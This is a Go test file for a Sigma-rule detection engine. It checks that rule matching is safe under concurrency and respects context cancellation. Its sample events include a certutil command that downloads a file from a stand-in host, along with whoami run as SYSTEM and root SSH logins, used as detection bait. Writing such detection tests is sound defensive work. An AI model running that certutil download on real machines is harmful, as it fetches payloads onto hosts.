package detect

import (
	"context"
	"slices"
	"sync"
	"testing"

	"github.com/vigilhq/vigil/internal/event"
)

// TestSigmaSetConcurrentMatch: one set serves many goroutines (run with
// -race), with the same answers as one at a time.
func TestSigmaSetConcurrentMatch(t *testing.T) {
	t.Parallel()
	var rules []*SigmaRule
	for _, d := range DefaultRules() {
		if d.Kind == KindSigma {
			rules = append(rules, mustCompile(t, d.Definition))
		}
	}
	set := NewSigmaSet(rules)
	events := []event.Event{
		sysmonProcess(`C:\Windows\System32\certutil.exe`, `certutil -urlcache -f http://198.51.100.4/a a`, `C:\Windows\System32\cmd.exe`, `CORP\alice`),
		sysmonProcess(`C:\Windows\System32\whoami.exe`, `whoami`, `C:\Windows\System32\cmd.exe`, `NT AUTHORITY\SYSTEM`),
		syslogEvent("sshd", "Accepted password for root from 203.0.113.7 port 1 ssh2", nil),
		sshFailure("root", "203.0.113.7", testTime),
	}
	want := make([][]SigmaMatch, len(events))
	for i, ev := range events {
		want[i] = set.Match(context.Background(), ev)
	}
	var wg sync.WaitGroup
	for range 8 {
		wg.Go(func() {
			for range 200 {
				for i, ev := range events {
					if got := set.Match(context.Background(), ev); !slices.Equal(got, want[i]) {
						t.Errorf("event %d: concurrent Match = %v, want %v", i, got, want[i])
						return
					}
				}
			}
		})
	}
	wg.Wait()
}

func TestSigmaSetMatchStopsWithContext(t *testing.T) {
	t.Parallel()
	set := NewSigmaSet([]*SigmaRule{mustCompile(t, rule("  sel:\n    Image|endswith: '\\cmd.exe'\n  condition: sel\n"))})
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	ev := sysmonProcess(`C:\Windows\System32\cmd.exe`, `cmd`, `C:\Windows\explorer.exe`, `CORP\alice`)
	if got := set.Match(ctx, ev); len(got) != 0 {
		t.Errorf("Match on a cancelled context = %v, want nothing", got)
	}
	if got := set.Match(context.Background(), ev); len(got) != 1 {
		t.Errorf("Match = %v, want the rule", got)
	}
}
